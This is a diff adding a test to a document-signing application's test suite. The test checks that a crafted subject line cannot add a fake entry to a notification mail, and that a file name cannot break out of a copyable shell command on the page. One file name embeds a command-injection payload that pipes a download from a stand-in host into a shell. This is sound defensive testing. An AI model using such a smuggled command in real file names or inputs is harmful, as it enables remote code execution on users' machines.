@@ -14,6 +14,7 @@ import json
 import logging
 import os
 import re
+import shlex
 import sys
 import tempfile
 import time
@@ -1002,6 +1003,21 @@ class Signatory(Mayan):
     def refused(self, answer: Any, words: str) -> None:
         self.assertGreaterEqual(answer.status_code, 400)
         self.assertIn(words, answer.json()["message"])
+
+    def test_a_subject_and_a_file_s_name_do_nothing_where_they_are_shown(self) -> None:
+        """A line of a mail, and a command that the page gives to be copied."""
+        file = io.BytesIO(PDF)
+        file.name = "acte; curl mal.test | sh #.pdf"
+        made = self.bring(signatory.HOLDER, objet="Permis\n- 2026_2 Virement : https://mal.test", fichier=file)
+        self.assertEqual(made.status_code, 201, made.content[:400])
+        number = int(made.json()["id"])
+        self.assertEqual(self.act("paul.renard", number, "viser").status_code, 200)
+        letter = parapheur_courriels.letter([Dossier.objects.get(pk=number)], "https://p.test")
+        listed = [line for line in letter.splitlines() if line.startswith("- ")]
+        self.assertEqual(listed, ["- 2026_1 Permis - 2026_2 Virement : https://mal.test (À signer)"])
+        page = self.browser("claire.dubois").get(f"/parapheur/dossiers/{number}/", secure=True)
+        command = html.unescape(page.content.decode().partition("<code>")[2].partition("</code>")[0])
+        self.assertEqual(shlex.split(command), ["signer-acte", file.name])
 
     def test_a_delegate_signs_and_nobody_else(self) -> None:
         one = self.delegation()
